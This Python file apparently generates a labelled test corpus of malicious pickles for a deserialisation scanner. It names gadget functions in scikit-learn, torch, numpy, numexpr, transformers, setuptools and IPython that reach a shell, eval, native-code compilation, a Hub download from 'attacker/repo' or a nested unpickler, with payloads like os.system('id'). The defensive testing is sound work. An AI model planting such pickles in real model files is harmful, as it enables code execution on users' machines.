"""Classes 1 and 2 of issue 16: gadgets hidden inside trusted libraries, and callables on no list.

Each payload is `fn(*args)` pickled by CPython's pickler (protocol 4, what Python 3.8+ writes by default) with
`fn` a stub that carries the real module path and name; the note says what the real function does.
"""
from common import Call, dumps, stub_function

# Class 1: a module of a trusted package (scikit-learn, torch, numpy) that is or reaches a shell, a
# download-then-load helper or a native-code builder. A prefix allowlist (`sklearn.*`) admitted the first three.
CLASS1 = [
    ('sklearn_run_script.pkl', 'sklearn.utils._testing', 'assert_run_python_script_without_output',
     ('import os; os.system("id")',),
     'scikit-learn 1.4+ sklearn/utils/_testing.py: writes `source_code` to a file and runs it with '
     'subprocess.check_output([sys.executable, ...]); admitted by the old sklearn.* prefix rule'),
    ('sklearn_run_script_old.pkl', 'sklearn.utils._testing', 'assert_run_python_script',
     ('import os; os.system("id")',),
     'scikit-learn 0.23-1.3 name of the same helper (sklearn/utils/_testing.py, subprocess.check_output)'),
    ('sklearn_fetch_california.pkl', 'sklearn.datasets._california_housing', 'fetch_california_housing',
     ('/tmp/attacker-planted',),
     'scikit-learn 1.5 sklearn/datasets/_california_housing.py: downloads cal_housing.pkz into data_home and '
     'joblib.load()s it (unrestricted unpickling of a file the attacker placed or served)'),
    ('sklearn_fetch_lfw.pkl', 'sklearn.datasets._lfw', 'fetch_lfw_people',
     ('/tmp/attacker-planted',),
     'scikit-learn 1.5 sklearn/datasets/_lfw.py: joblib.Memory(location=data_home) loads cached pickles from '
     'the attacker-chosen data_home'),
    ('torch_testing_shell.pkl', 'torch.testing._internal.common_utils', 'shell',
     (['sh', '-c', 'id'],),
     'torch 2.x torch/testing/_internal/common_utils.py: shell(command) = subprocess.Popen(command).wait()'),
    ('numpy_build_extension.pkl', 'numpy.testing._private.extbuild', 'build_and_import_extension',
     ('evil', [('f', 'METH_NOARGS', 'system("id"); Py_RETURN_NONE;')]),
     'numpy 1.22+ numpy/testing/_private/extbuild.py: compiles C source with the system compiler and imports it'),
    ('torch_load_inline.pkl', 'torch.utils.cpp_extension', 'load_inline',
     ('evil', '', 'int x = system("id");'),
     'torch 2.x torch/utils/cpp_extension.py: compiles the given C++ source and imports the shared object'),
]

# Class 2: callables on neither list that reach eval, exec, a shell, remote code or a nested deserialiser.
CLASS2 = [
    ('numexpr_evaluate.pkl', 'numexpr', 'evaluate', ('__import__("os").system("id")',),
     'numexpr <= 2.8.5 numexpr/necompiler.py: evaluate() passed the expression to eval() (CVE-2023-39631)'),
    ('transformers_remote_code.pkl', 'transformers.dynamic_module_utils', 'get_class_from_dynamic_module',
     ('evil.Model', 'attacker/repo'),
     'transformers 4.x dynamic_module_utils.py: downloads attacker/repo/evil.py from the Hub and imports it'),
    ('pkg_resources_entry_point.pkl', 'pkg_resources', 'load_entry_point',
     ('attacker-dist', 'console_scripts', 'evil'),
     'setuptools pkg_resources/__init__.py: imports the module an installed distribution names'),
    ('transformers_load_state_dict.pkl', 'transformers.modeling_utils', 'load_state_dict',
     ('/tmp/attacker.bin',),
     'transformers < 4.37 modeling_utils.py: load_state_dict() = torch.load(path) without weights_only '
     '(nested unrestricted deserialiser)'),
    ('ipython_getoutput.pkl', 'IPython.utils._process_posix', 'getoutput', ('id',),
     'IPython 8 utils/_process_posix.py: getoutput(cmd) runs cmd through a shell (pexpect/subprocess)'),
]


def generate(corpus):
    for file, module, name, args, note in CLASS1:
        corpus.write(1, file, dumps(Call(stub_function(module, name), *args)), 'malicious', None, note)
    for file, module, name, args, note in CLASS2:
        corpus.write(2, file, dumps(Call(stub_function(module, name), *args)), 'malicious', 'pickle.unknown-global', note)
